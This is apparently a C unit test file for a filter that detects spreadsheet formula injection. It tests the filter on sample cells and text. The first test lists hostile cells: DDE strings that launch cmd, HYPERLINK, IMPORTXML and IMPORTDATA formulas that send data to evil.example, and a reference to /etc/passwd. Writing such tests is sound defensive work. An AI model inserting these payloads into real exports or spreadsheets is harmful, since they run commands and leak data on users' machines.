/** Cells that a spreadsheet runs, and signs at the beginning of ordinary texts. */
#include "tests/unit/filter_alone.h"

static void blocks_cells_that_reach_out(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"dynamic data exchange", PEN_STR("=cmd|'/c calc'!A0")},
        {"behind a sum", PEN_STR("=1+2+cmd|' /C calc'!A0")},
        {"at sign", PEN_STR("@SUM(1+1)*cmd|' /C calc'!A0")},
        {"spaces", PEN_STR("= c m d | ' / c  calc ' ! A 1")},
        {"plus", PEN_STR("+cmd|'/c x'!A")},
        {"minus", PEN_STR("-2+3+cmd|'/c x'!A")},
        {"hyperlink", PEN_STR("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")},
        {"import", PEN_STR("=IMPORTXML(\"http://evil.example/\",\"//a\")")},
        {"in quotes", PEN_STR("\"=WEBSERVICE(A1)\"")},
        {"a later call", PEN_STR("=A1+IMPORTDATA(\"http://evil.example\")")},
        {"a separator before", PEN_STR("\";=cmd|'/C calc'!A0")},
        {"an exchange without a sign", PEN_STR("DDE (\"cmd\";\"/C calc\";\"x\")")},
        {"a cell behind another", PEN_STR("Jane,=cmd|'/c calc'!A0")},
        {"a cell behind many bars", PEN_STR("a|b|c|d|e|f|g|h|i|j,=cmd|'/c calc'!A0")},
        {"a cell behind cells of its kind", PEN_STR("x,=a|1,=b|2,=c|3,=cmd|'/c calc'!A0")},
        {"a cell behind a tab", PEN_STR("Jane\t+cmd|'/c calc'!A0")},
        {"a link behind a plus", PEN_STR("+HYPERLINK(\"http://evil.example\")")},
        {"a link behind an at sign", PEN_STR("@HYPERLINK(\"http://evil.example\",\"x\")")},
        {"a fetch behind a plus", PEN_STR("+IMPORTXML(\"http://h.example\",\"//a\")")},
        {"another file", PEN_STR("='file:///etc/passwd'#$passwd.A1")},
    };
    filter_case_blocks(&it, "formula", rows, PEN_COUNT_OF(rows));
}

static void stays_silent_on_signs_of_ordinary_texts(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"negative", PEN_STR("-12.50")},
        {"telephone", PEN_STR("+49 30 1234567")},
        {"mention", PEN_STR("@alice see this")},
        {"bullet", PEN_STR("- fix(parser): handle NUL")},
        {"arrow", PEN_STR("=> next")},
        {"heading", PEN_STR("== Title ==")},
        {"smiley", PEN_STR("=)")},
        {"diff", PEN_STR("+int main(void)")},
        {"plus one", PEN_STR("+1")},
        {"CSS", PEN_STR("-webkit-box(flex)")},
        {"pipes", PEN_STR("a | 'b' ! c")},
        {"a bullet behind a comma", PEN_STR(", - item")},
        {"a separator", PEN_STR("; = x")},
        {"a pipe behind a comma", PEN_STR("first, =sort | 'uniq' and done!")},
        {"a change's several lines", PEN_STR("+import(\"a\")\n+import(\"b\")")},
        {"options of a parser", PEN_STR("a;-x|'b' c")},
        {"the acronym", PEN_STR("DDE (dynamic data exchange)")},
    };
    filter_case_passes(&it, "formula", rows, PEN_COUNT_OF(rows));
}

static void weighs_these_only_for_the_sink(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"a sum", PEN_STR("=SUM(A1:A9)")},
        {"arithmetic", PEN_STR("=1+1")},
        {"spaces before", PEN_STR("  =AVERAGE(B2)")},
        {"a change", PEN_STR("+importData(rows);")},
        {"a call behind a plus", PEN_STR("+OPEN(\"a.txt\")")},
    };
    filter_case_needs_sink("formula", PEN_S("spreadsheet"), rows, PEN_COUNT_OF(rows));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(blocks_cells_that_reach_out),
        cmocka_unit_test(stays_silent_on_signs_of_ordinary_texts),
        cmocka_unit_test(weighs_these_only_for_the_sink),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
